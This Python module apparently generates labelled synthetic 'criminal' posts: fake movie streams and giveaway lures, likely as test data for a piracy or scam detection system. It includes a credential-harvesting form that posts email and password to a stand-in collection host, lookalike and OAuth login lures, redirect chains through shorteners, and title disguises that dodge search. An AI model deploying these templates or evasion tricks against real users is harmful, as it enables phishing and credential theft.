"""Criminals' posts: fake streams (disguised titles, lure links in many shapes) and lure posts."""

from __future__ import annotations

import html
from collections.abc import Callable

from replica.content.disguises import DISGUISES, disguise
from replica.content.drafting import Draft, DraftDesk, PostSlot
from replica.content.films import Film
from replica.content.landings import HOSTILE_KINDS, SHORTENERS
from replica.content.lure_pages import LURE_PAGES
from replica.content.markup import code_for, html_escape
from replica.content.phrases import LANGUAGES
from replica.content.seo import HIDDEN_TAGS, LOCAL_FORMULAS, abbreviate
from replica.dataset import search_tokens

__all__ = ["LINK_PLANS", "StreamDrafts"]


# How a fake-stream post's main link reaches its target (round robin over all stream posts).
LINK_PLANS: tuple[str, ...] = (
    "lure",
    "shortener_lure",
    "lure_js",
    "ad_player",
    "meta_chain_lure",
    "lure",
    "imdb_and_lure",
    "chain5_lure",
    "hostile",
    "lure",
    "chain7_lure",
    "robots_lure",
    "shortener_lure",
    "js_redirect_benign",
    "lure",
    "loop_via_shortener",
    "dead_link",
    "lure_js",
    "http_meta_lure",
    "trailer_and_ad_player",
)
NEEDS_JS_LURES = tuple(v for v, (_, js, _) in LURE_PAGES.items() if js)
STATIC_PLAYER_LURES = tuple(v for v, (_, js, player) in LURE_PAGES.items() if player and not js)
LOGIN_LURES = (
    "lookalike_login",
    "oauth_google",
    "brand_clone",
    "oauth_microsoft",
    "telegram_exfil",
)


class StreamDrafts(DraftDesk):
    """Writes the drafts of criminals' posts, creating the landing pages they link to."""

    def _stream_targets(self, film: Film, slot: PostSlot) -> tuple[list[str], str]:
        """(links in the body, note) for one fake-stream post, following :data:`LINK_PLANS`."""
        b = self.book
        plan = self.cycles.pick("linkplan", LINK_PLANS)

        def lure() -> str:  # picked only when used, so every variant gets its turn
            return b.lure(self.cycles.pick("lure", STATIC_PLAYER_LURES), film)

        def short(url: str) -> str:
            return b.shortened(url, self.cycles.pick("short", SHORTENERS))

        targets: dict[str, Callable[[], list[str]]] = {
            "lure": lambda: [lure()],
            "lure_js": lambda: [b.lure(self.cycles.pick("jslure", NEEDS_JS_LURES), film)],
            "shortener_lure": lambda: [short(lure())],
            "meta_chain_lure": lambda: [short(b.meta_refresh(lure()))],
            "http_meta_lure": lambda: [b.meta_refresh(lure()).replace("https://", "http://", 1)],
            "chain5_lure": lambda: [b.chain(lure(), 5)],
            "chain7_lure": lambda: [b.chain(lure(), 7)],
            "imdb_and_lure": lambda: [b.benign("imdb", film), lure()],
            "ad_player": lambda: [b.benign("ad_player", film)],
            "trailer_and_ad_player": lambda: [
                b.benign("youtube_watch", film),
                b.benign("ad_player", film),
            ],
            "hostile": lambda: [b.hostile(self.cycles.pick("hostile", HOSTILE_KINDS))],
            "robots_lure": lambda: [b.robots_blocked_lure(film)],
            "js_redirect_benign": lambda: [b.js_redirect(b.benign("cinema", film))],
            "loop_via_shortener": lambda: [short(b.hostile("redirect_loop"))],
            "dead_link": lambda: [
                f"https://{code_for('dead', film.title).lower()}.removed-site.example/{film.slug}"
            ],
        }
        urls = targets[plan]()
        if (
            plan == "http_meta_lure"
        ):  # register the http:// spelling too: Landing.url is the URL as linked
            src = b.landings[urls[0].replace("http://", "https://", 1)]
            b.landings.setdefault(urls[0], type(src)(**{**src.__dict__, "url": urls[0]}))
        return urls, f"link: {plan}"

    def draft_stream(self, film: Film, slot: PostSlot) -> Draft:
        phrases = LANGUAGES[slot.language]
        kind = self.cycles.pick("disguise", DISGUISES)
        shown = disguise(kind, film.title, film.year, film.aliases)
        title = self.cycles.pick(f"headline-{slot.language}", phrases.headlines).format(
            t=shown, y=film.year_text
        )
        intro = self.cycles.pick(f"intro-{slot.language}", phrases.intros).format(
            t=shown, y=film.year_text
        )
        urls, link_note = self._stream_targets(film, slot)
        tags, keywords = self._findable(film, slot)
        body = [f"<p>{intro}</p>", self._play_button(urls[0], slot, film, phrases.cta)]
        body += [
            f'<p><a href="{self._href(u, slot)}">Server {i + 2}</a></p>'
            for i, u in enumerate(urls[1:])
        ]
        if keywords:
            body.append(keywords)
        return Draft(
            "stream",
            film,
            title,
            "\n".join(body),
            tags + self._spam_tags(film, slot.language),
            urls,
            slot.language,
            fake_stream=True,
            note=f"fake stream; disguise: {kind}; {link_note}",
        )

    def _evading(self, film: Film) -> tuple[str, str]:
        """(disguise kind, shown title) of the next disguise that hides the title's words from
        the platform's search (homoglyphs, zero-width characters, leetspeak...)."""
        words = set(search_tokens(film.title))
        for _ in DISGUISES:
            kind = self.cycles.pick("hidden-disguise", DISGUISES)
            shown = disguise(kind, film.title, film.year, film.aliases)
            if not words <= set(search_tokens(html.unescape(shown))):
                return kind, shown
        return "abbreviated", abbreviate(film.title)

    def draft_hidden_stream(self, film: Film, slot: PostSlot) -> Draft:
        """A fake stream written for the blog's visitors, not for search: a disguised, local or
        vowel-dropped title, no SEO line, generic tags. Reading the blog (expansion) or a link
        from another post finds it; a search for the title's phrasings does not."""
        phrases = LANGUAGES[slot.language]
        style = self.cycles.pick("hidden-style", ("disguise", "local", "abbreviated", "disguise"))
        if style == "disguise":
            kind, shown = self._evading(film)
            title = self.cycles.pick(f"headline-{slot.language}", phrases.headlines).format(
                t=shown, y=film.year_text
            )
            lead = phrases.intros[0].format(t=shown, y=film.year_text)
            style = f"disguise: {kind}"
        elif style == "local":
            formula = LOCAL_FORMULAS.get(slot.language, LOCAL_FORMULAS["en"])
            title = html_escape(formula.format(title=film.title, year=film.year_text).strip())
            lead = title
        else:
            title = html_escape(f"{abbreviate(film.title)} {film.year_text} onlin free")
            lead = title
        urls, link_note = self._stream_targets(film, slot)
        body = [f"<p>{lead}</p>", self._play_button(urls[0], slot, film, phrases.cta)]
        body += [
            f'<p><a href="{self._href(u, slot)}">Server {i + 2}</a></p>'
            for i, u in enumerate(urls[1:])
        ]
        tags = [
            self.cycles.pick("hidden-tag", HIDDEN_TAGS),
            *self._spam_tags(film, slot.language)[1:],
        ]
        return Draft(
            "hidden_stream",
            film,
            title,
            "\n".join(body),
            tags,
            urls,
            slot.language,
            fake_stream=True,
            note=f"fake stream without SEO ({style}); {link_note}",
        )

    def draft_lure_only(self, film: Film, slot: PostSlot) -> Draft:
        """A giveaway / free-account post: not a fake stream, but its link is a sign-in trap."""
        phrases = LANGUAGES[slot.language]
        url = self.book.lure(self.cycles.pick("loginlure", LOGIN_LURES), film)
        if self.cycles.pick("lureonly-short", ("direct", "short")) == "short":
            url = self.book.shortened(url, self.cycles.pick("short", SHORTENERS))
        # no stream claims and no SEO stuffing: found by its plain title tag, or (where only
        # free-text search exists) by its premiere wording, with the words of "{title} full movie"
        has_tags = slot.blog.platform == "tumblr" or slot.blog.kind == "wpcom"
        tags = [self._plan_tags(film)[1]] if has_tags else [film.title.lower()]
        premiere = (
            "" if has_tags else f"<p>Tickets for the {film.shown} full movie premiere!</p>\n"
        )
        body = (
            f"<p>{phrases.lure_giveaway.format(t=film.shown)}</p>\n{premiere}"
            f'<p><a href="{self._href(url, slot)}">&#127873; ENTER NOW / LOG IN</a></p>'
        )
        return Draft(
            "lure_only",
            film,
            f"&#127873; {film.shown} giveaway",
            body,
            [*tags, "giveaway", "free tickets"],
            [url],
            slot.language,
            note="lure post (giveaway), not a fake stream",
        )

    def draft_embedded_lure(self, film: Film, slot: PostSlot) -> Draft:
        """A fake stream whose sign-in trap sits in the post itself."""
        draft = self.draft_stream(film, slot)
        style = self.cycles.pick("embedded", ("form", "facebook"))
        if style == "form":
            action = "https://collect.stream-now.xyz/gate.php"
            trap = (
                f'<form action="{action}" method="post"><p>Log in to unlock the HD stream</p>'
                '<input type="email" name="email" placeholder="Email"><input type="password" '
                'name="password">'
                "<button>Sign in with Google</button></form>"
            )
        else:
            action = self.book.lure("lookalike_login", film)
            trap = (
                f'<p><a class="fb-login-button" href="{html_escape(action)}" '
                'style="background:#1877f2;color:#fff">'
                "Continue with Facebook to watch</a></p>"
            )
        draft.body = f"{trap}\n{draft.body}"
        draft.outbound = [action, *draft.outbound]
        draft.kind = "embedded_lure"
        draft.embedded_lure = True
        draft.note = f"lure embedded in the post ({style}); " + draft.note
        return draft

    def draft_unwatched(self, film: Film, slot: PostSlot) -> Draft:
        """A fake stream for a film that is not on the watchlist: links never lead to a lure."""
        phrases = LANGUAGES[slot.language]
        title = phrases.headlines[0].format(t=film.shown, y=film.year_text)
        target = self.cycles.pick("unwatched-target", ("ad_player", "hostile", "imdb"))
        url = (
            self.book.hostile(self.cycles.pick("hostile", HOSTILE_KINDS))
            if target == "hostile"
            else self.book.benign(target, film)
        )
        body = (
            f"<p>{phrases.intros[0].format(t=film.shown, y=film.year_text)}</p>\n"
            f"{self._play_button(url, slot, film, phrases.cta)}\n<p>{film.shown} "
            f"full movie, watch {film.shown} "
            f"{film.year_text} online</p>"
        )
        tags = [f"{film.title} full movie", film.title, "free movies"]
        return Draft(
            "unwatched",
            film,
            title,
            body,
            tags,
            [url],
            slot.language,
            fake_stream=True,
            note=f"fake stream of an unwatched film ({target})",
        )

    def draft_near_miss_stream(self, film: Film, slot: PostSlot, watched: Film | None) -> Draft:
        """A fake stream of a sequel or prequel of a watched film (Iron Man 2, not 3): no hit."""
        draft = self.draft_unwatched(film, slot)
        if (
            watched is not None
        ):  # mention the watched title so that its searches return this post too
            draft.body += (
                f"\n<p>Related: {watched.shown} ({watched.year_text}) is not on this server yet. "
                "Bookmark us!</p>"
            )
            draft.tags.append(watched.title.lower())
        draft.kind = "near_miss_stream"
        draft.note = f"near-miss title {film.title!r}; " + draft.note
        return draft
